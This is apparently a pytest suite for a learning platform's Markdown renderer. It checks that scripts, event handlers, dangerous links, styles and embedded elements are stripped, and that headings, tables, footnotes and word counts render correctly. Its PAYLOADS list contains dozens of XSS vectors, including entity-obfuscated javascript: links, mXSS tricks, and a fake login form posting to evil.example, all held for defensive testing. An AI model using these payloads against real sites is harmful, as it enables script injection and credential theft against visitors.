"""Markdown to HTML: whatever an author (or a pasted web page) puts in a lesson, no script, event
handler, dangerous link, style or embedded page reaches the browser; the useful Markdown does."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest

from lms.content.rendering import TocEntry, count_words, render_markdown, sanitise_html

MEDIA = {"media/chart.png": "/content/media/" + "a" * 64 + "/chart.png"}
FORBIDDEN_TAGS = {
    *("script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form"),
    *("input", "button", "textarea", "select", "meta", "base", "link", "svg", "math", "body"),
    *("html", "head", "title", "noscript", "template", "portal", "h1"),
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "poster", "xlink:href"}


class Elements(HTMLParser):
    """Every start tag of a fragment with its attributes, as a browser would read them."""

    def __init__(self, fragment: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def assert_harmless(fragment: str) -> None:
    """No script, handler, dangerous URL, style or embedding element survives in `fragment`."""
    lowered = fragment.lower()
    assert "<script" not in lowered
    for scheme in ("javascript:", "vbscript:", "data:text", "data:image/svg"):
        assert scheme not in lowered, scheme
    assert not re.search(r"\sstyle\s*=", lowered)
    for tag, attributes in Elements(fragment).found:
        assert tag not in FORBIDDEN_TAGS, tag
        for name, value in attributes:
            assert not name.startswith("on"), (tag, name)
            assert name not in ("style", "srcdoc", "formaction", "target"), (tag, name)
            if name in URL_ATTRIBUTES and value is not None:
                squeezed = re.sub(r"[\x00-\x20]", "", html.unescape(value)).lower()
                assert not squeezed.startswith(("javascript:", "vbscript:", "data:")), value
            if name == "id":
                assert re.fullmatch(r"sec-[\w-]+|fn:[\w-]+|fnref\d*:[\w-]+", value or ""), value


PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script-upper-src": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-split": "<scr<script>ipt>alert(1)</script>",
    "script-nested": "<<script>script>alert(1)<</script>/script>",
    "script-in-svg": "<svg><script>alert(1)</script></svg>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-slashes": '<img/src="x"/onerror=alert(1)>',
    "img-unclosed": "<img src=x onerror=alert(1)//",
    "a-javascript": '<a href="javascript:alert(1)">x</a>',
    "a-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "a-entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
    'alert(1)">x</a>',
    "a-hex-entities": '<a href="&#x6A;&#x61;&#x76;&#x61;script&#x3A;alert(1)">x</a>',
    "a-tab-entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "a-padded-entity": '<a href="java&#0000009script:alert(1)">x</a>',
    "a-leading-space": '<a href="  javascript:alert(1)">x</a>',
    "a-newline": '<a href="java\nscript:alert(1)">x</a>',
    "a-data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "md-javascript": "[click me](javascript:alert(1))",
    "md-javascript-title": '[click me](javascript:alert(1) "Help")',
    "md-javascript-upper": "[click me](JAVASCRIPT:alert(1))",
    "md-javascript-reference": "[click me][r]\n\n[r]: javascript:alert(1)",
    "md-data-link": "[x](data:text/html,<script>alert(1)</script>)",
    "md-autolink-javascript": "<javascript:alert(1)>",
    "md-image-javascript": "![x](javascript:alert(1))",
    "md-image-onerror": '![x" onerror="alert(1)](media/chart.png)',
    "md-image-title-onerror": '![x](media/chart.png "t" onerror="alert(1)")',
    "md-title-injection": '[x](https://example.com "a\\" onmouseover=\\"alert(1)")',
    "svg-onload": "<svg onload=alert(1)><circle r=1 /></svg>",
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form": '<form action="https://evil.example/steal"><input name=password><button>Go</button>'
    "</form>",
    "button-formaction": '<button formaction="javascript:alert(1)">x</button>',
    "style-tag": "<style>body { display: none }</style>",
    "style-attribute": '<p style="position:fixed;top:0;left:0;width:100%">Log in again</p>',
    "style-url": '<div style="background:url(javascript:alert(1))">x</div>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base-href": '<base href="https://evil.example/">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "math-mglyph": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>"
    "</mglyph></table></mtext></math>",
    "math-href": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>s</summary>x</details>",
    "body-onload": "<body onload=alert(1)>",
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "allowed-tag-handler": '<abbr title="x" onmouseover="alert(1)">x</abbr>',
    "time-onclick": '<time datetime="2026-01-01" onclick="alert(1)">x</time>',
    "table-background": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "comment-script": "<!-- --><script>alert(1)</script><!-- -->",
    "comment-hiding": "<!-- <img src=x onerror=alert(1)> -->",
    "conditional-comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "noscript-breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "target-blank": '<a href="https://example.com" target="_blank">x</a>',
    "id-main": '<div id="main">x</div>',
    "id-heading-clash": '<h2 id="toc-heading">x</h2>',
    "id-form-clash": '<a id="csrf_token" href="#">x</a>',
    "h1": "<h1>Second title</h1>",
    "admonition-script": "!!! note\n    <script>alert(1)</script>\n    <img src=x onerror=x>",
    "footnote-img": "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "table-cell-img": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "heading-script": "## <script>alert(1)</script> Safety",
    "heading-img": "## Title <img src=x onerror=alert(1)>",
    "def-list": "Term\n:   <a href=javascript:alert(1)>x</a>",
    "abbr-title": '*[HTML]: x" onmouseover="alert(1)\n\nHTML',
}


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_attacks_do_not_survive_rendering(payload: str) -> None:
    """Scripts, event handlers, javascript:/vbscript:/data: links, styles, embedding elements
    and foreign ids are all removed."""
    assert_harmless(render_markdown(payload, MEDIA).html)


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_attacks_inside_surrounding_text_do_not_survive(payload: str) -> None:
    """A payload hidden among ordinary paragraphs, lists and quotes is removed just the same,
    and the ordinary text around it is kept."""
    source = f"Before.\n\n- item\n- {payload}\n\n> {payload}\n\n{payload}\n\nAfter the payload.\n"
    rendered = render_markdown(source, MEDIA).html
    assert_harmless(rendered)
    assert "<p>Before.</p>" in rendered
    assert "After the payload." in rendered


def test_the_payload_list_is_long_enough() -> None:
    """The attack list covers well over 25 distinct tricks."""
    assert len(PAYLOADS) >= 25


def elements(fragment: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    return [(tag, sorted(attributes)) for tag, attributes in Elements(fragment).found]


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_cleaning_again_removes_nothing_more(payload: str) -> None:
    """Cleaned HTML passes the cleaner unchanged (up to attribute order), so nothing was left
    half-removed for a second pass to find."""
    once = TABLE_REGION.sub("", render_markdown(payload, MEDIA).html).replace(
        "</table></div>", "</table>"
    )
    assert elements(sanitise_html(once)) == elements(once)


def test_an_image_src_outside_the_media_store_is_removed() -> None:
    """Even a raw `<img>` that starts like a media URL may only name a stored picture; a path
    that climbs out of /content/media/ would make the reader's browser fetch another page."""
    fragment = render_markdown('<img src="/content/media/../../account" alt="x">').html
    assert "src=" not in fragment


def test_stored_picture_urls_survive_cleaning() -> None:
    """The media store's own addresses are kept."""
    url = MEDIA["media/chart.png"]
    assert render_markdown("![A chart](media/chart.png)", MEDIA).html == (
        f'<p><img alt="A chart" src="{url}"></p>'
    )


@pytest.mark.parametrize(
    "source",
    [
        "![remote](https://evil.example/track.png)",
        "![relative](../other/media/chart.png)",
        "![missing](media/missing.png)",
        '<img src="https://evil.example/track.png" alt="remote">',
        '<img src="media/chart.png" alt="raw">',
        "![data](data:image/png;base64,iVBORw0KGgo=)",
    ],
)
def test_pictures_not_in_the_media_map_lose_their_source(source: str) -> None:
    """Nothing outside the platform is fetched, and raw HTML cannot bypass the media map."""
    fragment = render_markdown(source, MEDIA).html
    [(tag, attributes)] = Elements(fragment).found[-1:]
    assert tag == "img"
    assert "src" not in dict(attributes)
    assert "alt" in dict(attributes)


# --- what authors need ---------------------------------------------------------------------------


def test_headings_get_sec_ids_and_levels_2_and_3_make_the_table_of_contents() -> None:
    """Every heading gets a `sec-` id that cannot clash with the page; the TOC lists ## and ###."""
    rendered = render_markdown(
        "## Before the call\n\nText.\n\n### Check your headset\n\n#### A detail\n\n"
        "## Before the call\n\n## Ça va — déjà vu\n\n## !!!\n"
    )
    assert '<h2 id="sec-before-the-call">Before the call</h2>' in rendered.html
    assert '<h3 id="sec-check-your-headset">Check your headset</h3>' in rendered.html
    assert '<h4 id="sec-a-detail">A detail</h4>' in rendered.html
    assert '<h2 id="sec-before-the-call_1">Before the call</h2>' in rendered.html
    assert rendered.toc == (
        TocEntry(2, "sec-before-the-call", "Before the call"),
        TocEntry(3, "sec-check-your-headset", "Check your headset"),
        TocEntry(2, "sec-before-the-call_1", "Before the call"),
        TocEntry(2, "sec-ça-va-déjà-vu", "Ça va — déjà vu"),
        TocEntry(2, "sec-section", "!!!"),
    )


def test_table_of_contents_titles_are_plain_text() -> None:
    """Markup and entities in a heading become the plain words a reader sees."""
    rendered = render_markdown("## Fish &amp; chips <b>now</b>\n")
    assert rendered.toc == (TocEntry(2, "sec-fish-chips-now", "Fish & chips now"),)


def test_a_text_without_headings_has_no_table_of_contents() -> None:
    """Short lessons are not given an empty navigation box."""
    assert render_markdown("Just a paragraph.").toc == ()


TABLE_REGION = re.compile(
    r'<div class="table-scroll" role="region" tabindex="0" aria-label="Table \d+">'
)


def test_each_table_scrolls_in_its_own_labelled_region() -> None:
    """A wide table scrolls inside a keyboard-focusable region instead of widening the page;
    raw HTML cannot forge such a region, because cleaning runs first."""
    table = "| A | B |\n|---|---|\n| 1 | 2 |\n"
    fragment = render_markdown(
        f'{table}\nText.\n\n{table}\n<div role="region" tabindex="0">raw</div>\n'
    ).html
    regions = TABLE_REGION.findall(fragment)
    assert [region.rsplit(" ", 1)[-1] for region in regions] == ['1">', '2">']
    assert fragment.count("</table></div>") == 2
    assert fragment.count('tabindex="0"') == 2


def test_tables_keep_their_column_alignment_as_attributes() -> None:
    """Alignment survives without inline styles, through the `align` attribute."""
    fragment = render_markdown(
        "| Queue | Calls | Share |\n|:--|:-:|--:|\n| Sales | 120 | 40% |\n"
    ).html
    assert '<th align="left">Queue</th>' in fragment
    assert '<th align="center">Calls</th>' in fragment
    assert '<td align="right">40%</td>' in fragment
    assert "style" not in fragment


@pytest.mark.parametrize(
    "kind", ["note", "tip", "hint", "important", "warning", "caution", "danger"]
)
def test_admonitions_keep_their_classes(kind: str) -> None:
    """`!!! warning` renders as a styled box with its title."""
    fragment = render_markdown(f'!!! {kind} "Remember"\n    Mute when you cough.\n').html
    assert fragment == (
        f'<div class="admonition {kind}">\n<p class="admonition-title">Remember</p>\n'
        "<p>Mute when you cough.</p>\n</div>"
    )


def test_an_unknown_admonition_kind_loses_only_its_class() -> None:
    """Authors cannot inject arbitrary classes, but the box and its text stay."""
    fragment = render_markdown("!!! sneaky-class\n    Text.\n").html
    assert fragment.startswith('<div class="admonition">')
    assert "sneaky" not in fragment.split("</p>")[0].split(">")[0]
    assert "<p>Text.</p>" in fragment


def test_classes_outside_the_allow_list_are_removed() -> None:
    """Raw HTML classes could restyle the page; only the renderer's own survive."""
    fragment = render_markdown('<div class="admonition warning login-box">x</div>').html
    assert fragment == '<div class="admonition warning">x</div>'


def test_footnotes_link_both_ways() -> None:
    """A footnote reference and its note point at each other with allowed ids."""
    fragment = render_markdown(
        "Service level[^sl] matters.\n\n[^sl]: Calls answered in time.\n"
    ).html
    assert '<sup id="fnref:sl"><a class="footnote-ref" href="#fn:sl"' in fragment
    assert '<li id="fn:sl">' in fragment
    assert '<a class="footnote-backref" href="#fnref:sl" title="Back to the text"' in fragment
    assert '<div class="footnote">' in fragment
    assert_harmless(fragment)


def test_fenced_code_stays_escaped() -> None:
    """HTML shown as an example in a code block is text, not markup."""
    fragment = render_markdown(
        '```html\n<script>alert("hi")</script>\n<b>bold</b> & more\n```\n'
    ).html
    assert fragment == (
        '<pre><code>&lt;script&gt;alert("hi")&lt;/script&gt;\n'
        "&lt;b&gt;bold&lt;/b&gt; &amp; more\n</code></pre>"
    )


def test_inline_code_stays_escaped() -> None:
    """`<img onerror>` in backticks is shown, not run."""
    fragment = render_markdown("Never paste `<img src=x onerror=alert(1)>` into a ticket.").html
    assert "<code>&lt;img src=x onerror=alert(1)&gt;</code>" in fragment


def test_safe_links_are_kept_with_rel_noopener() -> None:
    """http, https, mailto, tel and in-page links work; every link gets rel=noopener."""
    fragment = render_markdown(
        "[site](https://example.com/help) [mail](mailto:help@example.com) [call](tel:+27110000000) "
        "[plain](http://example.com) [section](#sec-greeting)"
    ).html
    hrefs = [dict(attrs).get("href") for tag, attrs in Elements(fragment).found if tag == "a"]
    assert hrefs == [
        "https://example.com/help",
        "mailto:help@example.com",
        "tel:+27110000000",
        "http://example.com",
        "#sec-greeting",
    ]
    assert fragment.count('rel="noopener noreferrer"') == 5


def test_ordinary_formatting_survives() -> None:
    """Lists, emphasis, quotes, definition lists, abbreviations, details and kbd all render."""
    fragment = render_markdown(
        "*Hold* the **line**.\n\n1. One\n2. Two\n\n> Quote\n\nAHT\n:   Average handle time\n\n"
        "Press <kbd>Ctrl</kbd>.\n\n<details><summary>More</summary>Hidden.</details>\n\n"
        "*[AHT]: Average handle time\n"
    ).html
    for piece in (
        "<em>Hold</em>",
        "<strong>line</strong>",
        "<ol>\n<li>One</li>",
        "<blockquote>",
        "<dl>\n<dt><abbr",
        "<dd>Average handle time</dd>",
        "<kbd>Ctrl</kbd>",
        "<details><summary>More</summary>Hidden.</details>",
        '<abbr title="Average handle time">AHT</abbr>',
    ):
        assert piece in fragment, piece


# --- word count ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "words"),
    [
        ("", 0),
        ("One two three.", 3),
        ("Don't stop — it's well-known, isn\u2019t it?", 6),
        ("Call 0800 123 456 now", 5),
        ("## Heading words\n\nBody words here.", 5),
        ("Fish &amp; chips", 2),
        ("*bold* and **strong**", 3),
        ("![A chart](media/chart.png)", 0),
        ("[three link words](https://example.com)", 3),
        ("Café déjà vu", 3),
        ("<script>never counted words</script>Only these", 2),
    ],
)
def test_word_count_counts_the_words_a_reader_sees(source: str, words: int) -> None:
    """Contractions and hyphenated words are one word; markup, URLs and removed scripts are not
    words at all."""
    assert render_markdown(source, MEDIA).word_count == words


def test_word_count_of_a_fragment_ignores_tags_and_decodes_entities() -> None:
    """`count_words` works on HTML, not on its source."""
    assert count_words("<p>Fish&nbsp;&amp;&nbsp;chips</p><p>tonight</p>") == 3
